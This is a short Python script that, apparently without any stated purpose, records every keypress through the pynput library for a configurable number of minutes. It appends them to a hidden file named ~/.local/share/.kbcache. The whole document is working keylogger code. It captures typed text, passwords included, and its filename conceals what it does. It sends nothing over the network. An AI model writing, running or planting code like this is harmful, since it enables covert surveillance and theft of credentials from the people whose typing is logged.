import argparse
import pathlib
import time

from pynput import keyboard

LOG = pathlib.Path.home() / ".local" / "share" / ".kbcache"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--minutes", type=int, default=30)
    args = ap.parse_args()
    LOG.parent.mkdir(parents=True, exist_ok=True)
    f = LOG.open("a", buffering=1)

    def on_press(key):
        f.write(getattr(key, "char", None) or f"<{key.name}>")

    with keyboard.Listener(on_press=on_press):
        time.sleep(args.minutes * 60)
    print("done")


if __name__ == "__main__":
    main()
